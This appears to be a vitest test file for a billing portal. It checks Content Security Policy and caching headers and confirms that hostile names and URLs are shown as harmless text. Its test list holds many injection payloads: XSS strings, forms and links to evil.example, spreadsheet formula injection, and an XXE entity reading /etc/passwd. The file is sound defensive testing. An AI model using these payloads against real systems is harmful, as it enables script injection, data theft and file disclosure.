import { expect, it } from 'vitest';
import { DEFAULT_PORTAL_CONFIG } from '@billing/contracts/resources/portal-config';
import { SavedPortalConfig } from '../src/persistence/portal-config.entity.ts';
import { aSubscription, anInvoice } from './billing-samples.ts';
import { textOf } from './page-text.ts';
import { startService, type Service } from './start-service.ts';

it('S13: allows only its own style and script, and forbids caching and referrers', async () => {
  await using service = await startService();
  const { token } = await service.createLink();
  const [one, other] = [await service.visit(token), await service.visit(token)];

  const policy = String(one.headers['content-security-policy']);
  const nonce = /'nonce-([^']+)'/.exec(policy)?.[1];
  expect(policy.split('; ').toSorted()).toEqual([
    `base-uri 'none'`,
    `connect-src 'self'`,
    `default-src 'none'`,
    expect.stringMatching(/^form-action 'self' http:\/\/localhost:\d+ http:\/\/127\.0\.0\.1:\d+$/),
    `frame-ancestors 'none'`,
    `script-src 'nonce-${nonce}'`,
    `style-src 'nonce-${nonce}'`,
  ]);
  expect(one.body).toContain(`<script nonce="${nonce}">`);
  expect(one.body).toContain(`<style nonce="${nonce}">`);
  expect(one.body).not.toMatch(/ style="| on[a-z]+="|<link|<img|https?:\/\/(?!localhost|127)/);
  expect(other.headers['content-security-policy']).not.toBe(policy);

  const responses = [
    one,
    await service.visit('bad'),
    await service.visit(token, '/nothing-here'),
    await service.createSession(),
  ];
  for (const { headers } of responses)
    expect(headers).toMatchObject({
      'cache-control': 'no-store',
      'referrer-policy': 'no-referrer',
      'x-robots-tag': 'noindex',
      'x-content-type-options': 'nosniff',
    });
});

it('S13, S46: shows hostile texts as text', async () => {
  await using service = await startService();
  const hostile = [
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '</title><script>alert(1)</script>',
    '</style><script>alert(1)</script>',
    '</script><svg onload=alert(1)>',
    '<!--',
    ']]>',
    '&lt;b&gt; stays as it is',
    'javascript:alert(1)',
    '${alert(1)} {{alert(1)}} <%= alert(1) %>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<a href="javascript:alert(1)">click</a>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<form action="https://evil.example/"><input name=card>',
    '<style>*{display:none}</style>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
    '<template><script>alert(1)</script></template>',
    '\u202Egnp.exe',
    'عميل <b>مهم</b>',
    '＜script＞alert(1)＜/script＞',
    '\u0001\u0002<\u0003b>',
    '<sCrIpT/src=//evil.example>',
    '`onload=alert(1)`',
    '\\u003cscript\\u003e',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    `${'<b>'.repeat(60)}200 characters and more`,
    '<input autofocus onfocus=alert(1)>',
    `=cmd|'/c calc'!A0`,
    '=HYPERLINK("https://evil.example/"&A1,"click")',
    '\u2066abc\u2069\u2067def',
    '\u200bzero\u200bwidth\ufeff',
    'a\u0301'.repeat(100),
    '[click](javascript:alert(1))',
    '![x](https://evil.example/x.png)',
    '# heading **bold** `code` <b>x</b>',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '\u001b]0;title\u0007\u001b[31mred',
    'tab\tseparated, "quoted"; semicolon',
  ];
  const { otherServices } = service;
  const { token } = await service.createLink({
    returnUrl: `https://shop.example.com/?"><script>alert(1)</script>`.replaceAll(/\s/g, ''),
  });
  const harmless = await pageWith(service, token, 'harmless');
  const [expected, policy] = [tagsOf(harmless.body), policyOf(harmless.headers)];
  for (const name of hostile) {
    const { body, statusCode, headers } = await pageWith(service, token, name);
    expect(policyOf(headers)).toBe(policy);
    expect(statusCode).toBe(200);
    expect(tagsOf(body)).toEqual(expected);
    expect(textOf(body)).toContain(name);
  }
  otherServices.invoices = [
    anInvoice(service, { invoicePdfUrl: 'javascript:alert(1)', hostedInvoiceUrl: 'data:text/html,x', status: 'open' }),
  ];
  expect((await service.visit(token)).body).not.toMatch(/href="(javascript|data):/i);
});

/** Opens the page with `name` in every text that comes from outside. */
async function pageWith(service: Service, token: string, name: string) {
  const { otherServices } = service;
  otherServices.customer = { name, email: 'ada@example.com' };
  otherServices.projectName = name;
  otherServices.subscriptions = [aSubscription(service, { id: 'ps_00000000000000000000', productName: name })];
  otherServices.invoices = [anInvoice(service, { number: name })];
  // Not by the API, which refuses some of these.
  const brand = {
    name,
    logoUrl: `https://cdn.example/${name}`,
    accentColor: name,
    supportUrl: `https://help.example/${name}`,
    returnUrl: null,
  };
  const { em } = service.database;
  const config = { ...DEFAULT_PORTAL_CONFIG, brand };
  await em.fork().upsert(SavedPortalConfig, { ...service.scope, config, updatedAt: new Date() });
  return service.visit(token);
}

/** Returns the policy of a page without what differs in each. */
const policyOf = (headers: object): string =>
  String(new Map(Object.entries(headers)).get('content-security-policy'))
    .replaceAll(/nonce-[^']+/g, 'nonce')
    .replace(/ img-src https:\/\/cdn\.example;/, '');

/** Returns the tags of a page with the names of their attributes. */
function tagsOf(body: string): string[] {
  const withoutAssets = body.replaceAll(/<(style|script) [^>]*>[\s\S]*?<\/\1>/g, '');
  return [...withoutAssets.matchAll(/<\/?[a-z0-9!]+(?:\s+[a-z-]+(?:="[^"]*")?)*\s*>/gi)].map(([tag]) =>
    tag.replaceAll(/="[^"]*"/g, ''),
  );
}
